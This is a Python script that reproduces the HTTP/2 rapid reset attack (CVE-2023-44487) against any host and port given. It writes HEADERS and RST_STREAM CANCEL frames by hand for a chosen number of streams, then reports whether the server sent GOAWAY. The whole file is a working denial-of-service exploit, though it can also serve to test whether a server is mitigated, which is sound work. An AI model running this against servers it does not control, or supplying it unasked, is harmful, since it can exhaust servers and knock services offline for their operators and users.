#!/usr/bin/env python3
"""An HTTP/2 client that does what CVE-2023-44487 (rapid reset) does: it opens
streams and cancels each at once. Frames are written by hand (no HTTP/2
library cancels this way on purpose). Prints what the server answered:
"goaway ERROR_CODE" when it ended the connection with GOAWAY, "served N"
when it read all COUNT pairs and answered without GOAWAY.

usage: h2_rapid_reset.py HOST PORT COUNT
"""
import socket
import struct
import sys

from h2_frames import frame, frames_from


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    s = socket.create_connection((host, port), timeout=5)
    # GET http / (HPACK static indexes 2, 6, 4), :authority literal.
    block = b"\x82\x86\x84\x41\x0bproductpage"
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
    for i in range(count):
        stream = 1 + 2 * i
        out += frame(1, 0x5, stream, block)              # HEADERS, END_STREAM | END_HEADERS
        out += frame(3, 0, stream, struct.pack(">I", 8))  # RST_STREAM CANCEL
    try:
        s.sendall(out)
    except OSError:
        pass   # the server may close before it read everything
    s.settimeout(3)
    for ftype, _, _, payload in frames_from(s):
        if ftype == 7:
            print("goaway %d" % int.from_bytes(payload[4:8], "big"))
            return
    print("served %d" % count)


if __name__ == "__main__":
    main()
